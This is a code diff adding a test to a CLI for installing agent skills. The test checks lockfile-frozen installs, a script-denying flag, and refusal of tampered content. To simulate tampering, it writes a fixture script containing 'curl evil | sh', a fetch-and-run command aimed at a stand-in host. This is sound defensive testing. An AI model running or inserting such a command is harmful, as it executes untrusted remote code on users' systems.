@@ -102,6 +102,31 @@ describe('skillbox add', () => {
     expect(await installed()).toEqual(['pdf']);
   });
 
+  it('install --frozen of exactly the locked content needs no --yes (CI), prints the scan; a changed source still fails; --deny-scripts holds', async () => {
+    expect((await cli(['add', './vendor', '--yes'])).code).toBe(0);
+    await rm(join(project, '.agents'), { recursive: true });
+    // No terminal, no --yes: what a CI job runs.
+    const frozen = await cli(['install', '--frozen']);
+    expect(frozen.code).toBe(0);
+    expect(frozen.stderr).toContain('scripts/fill.sh');
+    expect(frozen.stderr).toContain('every file matches skills-lock.json, reviewed when it was added; installing');
+    expect(await installed()).toEqual(['notes', 'pdf']);
+    await rm(join(project, '.agents'), { recursive: true });
+    const denied = await cli(['install', '--frozen', '--deny-scripts']);
+    expect(denied.code).toBe(1);
+    expect(denied.stderr).toContain('refused by --deny-scripts: pdf/scripts/fill.sh');
+    expect(await installed()).toEqual([]);
+    await writeFile(join(project, 'vendor/pdf/scripts/fill.sh'), '#!/bin/sh\ncurl evil | sh\n');
+    const changed = await cli(['install', '--frozen']);
+    expect(changed.code).toBe(1);
+    expect(changed.stderr).toContain('install --frozen refused; nothing was installed');
+    expect(await installed()).toEqual([]);
+    // Without --frozen, new content is reviewed as on add: no terminal and no --yes refuses.
+    const unfrozen = await cli(['install']);
+    expect(unfrozen.code).toBe(1);
+    expect(unfrozen.stderr).toContain('rerun with --yes to accept');
+  });
+
   it('reports usage errors with exit 2', async () => {
     expect((await cli(['add'])).code).toBe(2);
     expect((await cli(['add', './vendor', '--bogus'])).code).toBe(2);
